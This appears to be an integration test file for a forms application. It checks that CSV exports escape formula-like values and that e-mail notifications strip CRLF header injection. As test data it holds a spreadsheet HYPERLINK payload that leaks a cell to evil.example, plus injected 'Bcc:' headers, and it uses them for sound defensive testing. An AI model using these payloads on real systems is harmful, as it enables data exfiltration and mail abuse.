import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { timecardTemplate } from '../../src/forms/engine/fixtures/timecard.template.js';
import { SubmissionExportService } from '../../src/forms/submissions/submission-export.service.js';
import { MailService } from '../../src/mail/mail.service.js';
import { OutboxAttachment } from '../../src/mail/outbox-attachment.entity.js';
import { OutboxMessage } from '../../src/mail/outbox-message.entity.js';
import { saveTemplate } from '../support/form-fixtures.js';
import { gql } from '../support/job-fixtures.js';
import { bearer, TestContext } from '../support/test-app.js';

const NOTIFY = `mutation N($input: FormTemplateNotificationConfigInput!) {
  createFormTemplateNotificationConfig(input: $input) { code success message errors { path message } } }`;
const EXPORT = `mutation E($formId: ID!, $fileType: String!) {
  formSubmissionsExport(formId: $formId, fileType: $fileType) { success url } }`;
const LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';

/** Exports and e-mails whose content comes from users, read by others (issue 30 §2). */
describe('documents that cannot be turned against their readers', () => {
  let ctx: TestContext;
  beforeAll(async () => {
    ctx = await TestContext.create();
  });
  afterAll(() => ctx.close());

  /** An account with a timecard form (named `name`) and a documents user. */
  const world = async (name = 'Daily Crane Timecard') => {
    const account = await ctx.newAccount();
    const admin = await ctx.newUser({ account, permissions: ['groundcrew:admin'] });
    const clerk = await ctx.newUser({ account, permissions: ['timecard:admin'] });
    const formId = (await saveTemplate(ctx, admin.token, account, { ...timecardTemplate(), name })).id;
    return { account, admin, clerk, formId };
  };
  type World = Awaited<ReturnType<typeof world>>;

  const submit = (w: World, values: Record<string, unknown>) =>
    ctx
      .http()
      .post('/api/form')
      .set(bearer(w.clerk.token))
      .send({
        formId: w.formId,
        localDateTime: '2026-11-20T06:45',
        fields: Object.entries(values).map(([id, value]) => ({ id, value })),
      })
      .expect(201);

  describe('CSV exports', () => {
    it('write a value that starts like a formula as text, keeping negative numbers numbers, in every export', async () => {
      const w = await world();
      const columns = [
        { header: 'Customer', fieldId: 'customerName' },
        { header: '@Crane Hours', fieldId: 'craneHours', format: 'number' },
        { header: 'Travel', fieldId: 'travelHours' },
      ];
      await ctx
        .http()
        .put(`/api/forms/${w.formId}/csvconfig`)
        .set(bearer(w.admin.token))
        .send({ fileName: 'Payroll', columns })
        .expect(200);
      await submit(w, { customerName: LEAK, craneHours: -5, travelHours: '-2+3' });
      await submit(w, { customerName: '+1 303 555 0100', craneHours: 6.5, travelHours: -1.5 });
      const expected = [
        `Customer,'@Crane Hours,Travel`,
        `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",-5,'-2+3`,
        `'+1 303 555 0100,6.5,-1.5`,
      ];
      const lines = (text: string) => text.trim().split('\n');

      const rest = () =>
        ctx
          .http()
          .post(`/api/forms/${w.formId}/submission/export`)
          .set(bearer(w.clerk.token))
          .send({ fileType: 'CSV' });
      expect(lines((await rest().expect(200)).text)).toEqual(expected);
      // The same through the export worker of the built server.
      const exports = ctx.app.get(SubmissionExportService);
      exports.csvWorker = new URL('../../dist/src/forms/submissions/csv-export.worker.js', import.meta.url);
      try {
        expect(lines((await rest().expect(200)).text)).toEqual(expected);
      } finally {
        exports.csvWorker = null;
      }
      const { data } = await gql(ctx, w.clerk.token, EXPORT, { formId: w.formId, fileType: 'CSV' });
      const url = new URL(data.formSubmissionsExport.url as string, 'http://localhost');
      expect(
        lines(
          (
            await ctx
              .http()
              .get(url.pathname + url.search)
              .expect(200)
          ).text,
        ),
      ).toEqual(expected);
    });
  });

  describe('e-mail', () => {
    it('stores and sends a notification whose form name holds line breaks with its subject on one line', async () => {
      const w = await world('Timecard\r\nBcc: everyone@evil.example');
      const notify = await gql(ctx, w.admin.token, NOTIFY, {
        input: { formTemplateId: w.formId, emails: ['office@example.com'] },
      });
      expect(notify.data.createFormTemplateNotificationConfig).toMatchObject({ success: true });
      await submit(w, { customerName: 'Acme' });
      await ctx.settled();
      const [mail] = await ctx.dataSource.getRepository(OutboxMessage).findBy({ accountId: w.account.account.id });
      expect(mail).toMatchObject({
        to: 'office@example.com',
        subject: 'Timecard Bcc: everyone@evil.example #1 submitted',
      });
      const [file] = await ctx.dataSource.getRepository(OutboxAttachment).findBy({ outboxMessageId: mail.id });
      expect(file.filename).not.toMatch(/[\r\n]/);
    });

    it('puts the recipient, subject and file names of any message on one line when it is made', async () => {
      const { account } = await ctx.newAccount();
      const attachment = { filename: 'Plan\n.pdf', contentType: 'application/pdf', content: Buffer.from('%PDF') };
      const made = await ctx.dataSource.transaction((manager) =>
        ctx.app.get(MailService).send(
          { accountId: account.id },
          {
            to: 'crew@example.com\r\nBcc: all@evil.example',
            subject: 'Hello\r\n\r\nInjected body',
            text: 'Line one\r\nLine two',
            attachments: [attachment],
          },
          manager,
        ),
      );
      const stored = await ctx.dataSource.getRepository(OutboxMessage).findOneByOrFail({ id: made.id });
      expect(stored).toMatchObject({
        to: 'crew@example.com Bcc: all@evil.example',
        subject: 'Hello Injected body',
        text: 'Line one\r\nLine two',
      });
      const [file] = await ctx.dataSource.getRepository(OutboxAttachment).findBy({ outboxMessageId: made.id });
      expect(file.filename).toBe('Plan .pdf');
    });

    it('caps a notification config at 50 recipients of at most 254 characters, storing nothing', async () => {
      const w = await world();
      const many = Array.from({ length: 51 }, (_, index) => `crew${index}@example.com`);
      const tooMany = await gql(ctx, w.admin.token, NOTIFY, { input: { formTemplateId: w.formId, emails: many } });
      expect(tooMany.data.createFormTemplateNotificationConfig).toMatchObject({
        code: 400,
        success: false,
        message: 'At most 50 Emails',
        errors: [{ path: 'emails', message: 'At most 50 Emails' }],
      });
      const long = `${'a'.repeat(64)}@${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(58)}.com`;
      const tooLong = await gql(ctx, w.admin.token, NOTIFY, { input: { formTemplateId: w.formId, emails: [long] } });
      expect(tooLong.data.createFormTemplateNotificationConfig).toMatchObject({
        code: 400,
        errors: [{ path: 'emails.0', message: 'Invalid Email' }],
      });
      const fifty = await gql(ctx, w.admin.token, NOTIFY, {
        input: { formTemplateId: w.formId, emails: many.slice(1) },
      });
      expect(fifty.data.createFormTemplateNotificationConfig).toMatchObject({ success: true });
    });
  });
});
